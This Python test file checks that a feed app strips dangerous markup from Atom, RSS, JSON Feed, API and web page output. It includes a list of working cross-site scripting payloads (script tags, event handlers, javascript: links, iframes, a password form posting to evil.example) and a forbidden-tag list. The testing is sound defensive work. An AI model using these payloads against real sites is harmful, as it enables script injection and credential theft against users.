"""HTML in titles and summaries: every rendering (Atom, RSS, JSON Feed, the JSON API, web pages)
carries only allowlisted markup and only http(s)/mailto links.

The hostile feed goes through the real pipeline (feedparser, storage) and is
read back through the real app, the way a feed reader and a browser would.
"""

from __future__ import annotations

import json
import re
from xml.etree import ElementTree

import lxml.html
import pytest
from fastapi.testclient import TestClient

from intel.cli import _api_app
from intel.clock import utcnow
from models import tokens
from tests.conftest import rss_feed, start_pipeline

PAYLOADS = [
    ('Siemens AG <script>alert("t1")</script> wins', '<p>Siemens AG <script>alert("s1")</script>deal</p>'),
    ("Siemens AG <img src=x onerror=alert('t2')> order", '<img src="https://img.example.com/a.png" '
     'onerror="alert(\'s2\')" onload="alert(1)">Siemens AG photo'),
    ("Siemens AG <a href=\"javascript:alert('t3')\">link</a>", '<a href="javascript:alert(\'s3\')">Siemens AG</a> '
     '<a href="JaVaScRiPt:alert(1)">x</a> <a href="data:text/html,<script>alert(1)</script>">d</a> '
     '<a href="vbscript:msgbox(1)">v</a> <a href="https://ok.example.com/siemens">fine</a>'),
    ("Siemens AG <form action=https://evil.example/steal>form</form>",
     'Siemens AG <form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'),
    ("Siemens AG <style>body{display:none}</style> style", '<style>*{background:url(javascript:alert(1))}</style>'
     '<p style="background:url(javascript:alert(1))">Siemens AG styled</p>'),
    ("Siemens AG <svg onload=alert('t6')> svg", '<svg><script>alert("s6")</script><a xlink:href="javascript:alert(1)">'
     '<text>Siemens AG</text></a></svg><math><mi xlink:href="javascript:alert(1)">m</mi></math>'),
    ("Siemens AG <iframe src=https://evil.example></iframe>", '<iframe src="https://evil.example"></iframe>'
     '<object data="https://evil.example/x.swf"></object><embed src="x"><meta http-equiv="refresh" '
     'content="0;url=javascript:alert(1)"><base href="https://evil.example/">Siemens AG'),
    ("Siemens AG &lt;script&gt;alert('escaped')&lt;/script&gt;", "&lt;img src=x onerror=alert('escaped')&gt; Siemens AG"),
]
FORBIDDEN_TAGS = {"script", "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed",
                  "svg", "math", "meta", "base", "link", "frame", "frameset", "applet"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


def assert_safe_html(fragment: str, where: str) -> None:
    if not fragment.strip():
        return
    root = lxml.html.fragment_fromstring(fragment, create_parent="div")
    for element in root.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        assert tag.lower() not in FORBIDDEN_TAGS, f"{where}: <{tag}> survived in {fragment!r}"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on") and name.lower() != "style", f"{where}: {name}= survived"
            if name.lower() in ("href", "src", "action", "xlink:href", "formaction", "data"):
                # empty (the sanitizer blanked a bad link) or an http(s)/mailto link
                assert not value.strip() or value.strip().lower().startswith(SAFE_SCHEMES), f"{where}: {name}={value!r}"


def assert_plain_title(title: str, where: str) -> None:
    """Titles are text: a reader that renders them as HTML must still find nothing active."""
    assert not re.search(r"<\s*(script|img|a|form|style|svg|iframe)\b", title, re.I), f"{where}: {title!r}"
    assert "javascript:" not in title.lower(), f"{where}: {title!r}"


@pytest.fixture
def hostile_site(feed_server, write_config, sqlite_url):
    items = [{"title": title, "description": summary, "guid": f"x{n}",
              "link": "javascript:alert('entry link')" if n == 2 else f"https://news.example.com/x{n}"}
             for n, (title, summary) in enumerate(PAYLOADS)]
    url = feed_server.serve("/hostile.xml", rss_feed(*items), Content_Type="application/rss+xml")
    config = write_config([{"id": "hostile", "kind": "rss", "url": url}], database=sqlite_url)
    pipeline, worker = start_pipeline(config)
    [outcome] = worker.tick()
    assert outcome.status == "ok" and outcome.counts.new == len(PAYLOADS)
    with pipeline.sessions.begin() as session:
        _, token = tokens.create_token(session, user="bob@example.com", now=utcnow(), internal=True,
                                       all_prospects=True, admin=True)
    with TestClient(_api_app(config, pipeline.sessions), base_url="http://127.0.0.1:8000") as client:
        client.headers["Authorization"] = f"Bearer {token}"
        yield client, token
    pipeline.close()


def test_feeds_carry_only_allowlisted_markup_and_safe_links(hostile_site):
    client, _ = hostile_site
    atom = client.get("/feeds/prospects/siemens.atom")
    assert atom.status_code == 200
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entries = ElementTree.fromstring(atom.content).findall("a:entry", ns)
    assert len(entries) >= len(PAYLOADS) - 2  # look-alike entries may collapse into one story
    for entry in entries:
        assert_plain_title(entry.findtext("a:title", "", ns), "atom title")
        for tag in ("a:summary", "a:content"):
            for node in entry.findall(tag, ns):
                assert_safe_html(node.text or "", f"atom {tag}")
        for link in entry.findall("a:link", ns):
            assert link.get("href").startswith(("http://", "https://")), link.get("href")

    rss = client.get("/feeds/prospects/siemens.rss")
    items = ElementTree.fromstring(rss.content).findall("channel/item")
    assert len(items) == len(entries)
    for item in items:
        assert_plain_title(item.findtext("title", ""), "rss title")
        assert_safe_html(item.findtext("description", ""), "rss description")
        link = item.findtext("link")
        assert link is None or link.startswith(("http://", "https://")), link

    feed = client.get("/feeds/prospects/siemens.json").json()
    assert len(feed["items"]) == len(entries)
    for item in feed["items"]:
        assert_plain_title(item.get("title", ""), "json feed title")
        assert_safe_html(item.get("content_html", ""), "json feed content_html")
        assert item.get("url") is None or item["url"].startswith(("http://", "https://")), item.get("url")


def test_the_json_api_carries_only_allowlisted_markup_and_safe_links(hostile_site):
    client, _ = hostile_site
    for path in ("/api/v1/items", "/api/v1/prospects/siemens/items", "/api/v1/items?q=Siemens"):
        body = client.get(path).json()
        assert len(body["items"]) >= len(PAYLOADS) - 2, path
        for item in body["items"]:
            assert_plain_title(item["title"], path)
            for field in ("summary", "summary_html", "content"):
                if isinstance(item.get(field), str):
                    assert_safe_html(item[field], f"{path} {field}")
            assert item.get("url") is None or item["url"].startswith(("http://", "https://")), item.get("url")
    text = json.dumps(client.get("/api/v1/prospects/siemens").json())
    assert "<script" not in text.lower() and "javascript:" not in text.lower()


def test_web_pages_show_hostile_content_as_inert_text(hostile_site):
    client, token = hostile_site
    for path in ("/app/users/bob@example.com", "/app/prospects/siemens", "/app/users/bob@example.com/preview"):
        page = client.get(path, params={"token": token})
        assert page.status_code == 200, (path, page.status_code)
        root = lxml.html.fromstring(page.text)
        for script in root.iter("script"):  # only the app's own script file, never inline content
            assert "/static/" in script.get("src", "") and not (script.text or "").strip(), path
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            assert element.tag.lower() not in FORBIDDEN_TAGS - {"script", "link", "meta", "form", "input",
                                                                 "button", "svg"}, (path, element.tag)
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), (path, name)
                if name.lower() in ("href", "src", "action"):
                    assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (path, value)
        assert "alert(" not in "".join(s.text or "" for s in root.iter("script"))
        assert "script-src 'self'" in page.headers.get("content-security-policy", ""), path
